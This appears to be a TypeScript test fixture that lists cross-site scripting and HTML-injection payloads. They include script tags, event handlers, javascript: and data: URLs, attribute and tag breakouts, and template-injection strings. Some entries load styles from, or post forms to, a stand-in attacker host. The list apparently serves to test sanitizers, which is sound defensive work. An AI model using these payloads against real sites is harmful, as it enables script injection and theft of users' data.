// What runs as a script wherever text is taken for markup or an address for a link.

/** What a payload does when it runs: the page is told, and somebody else would hear of it. */
const RUN = "window.ran=1";

/** Texts that are harmless as text only. */
export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<input autofocus onfocus=${RUN}>`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<style>@import 'http://evil.example/a.css'</style>`,
  `<link rel=stylesheet href=http://evil.example/a.css>`,
  `<base href=http://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<a href="javascript:${RUN}" id=x>x</a><script>x.click()</script>`,
  `<form action=http://evil.example><button>x`,
  `<object data="javascript:${RUN}">`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `"><script>${RUN}</script>`,
  `' onmouseover=${RUN} x='`,
  `</td></tr></table><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[><script>${RUN}</script>]]>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  "&lt;script&gt;window.ran=1&lt;/script&gt;",
  "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
  "{{constructor.constructor('window.ran=1')()}}",
  "${window.ran=1}",
];
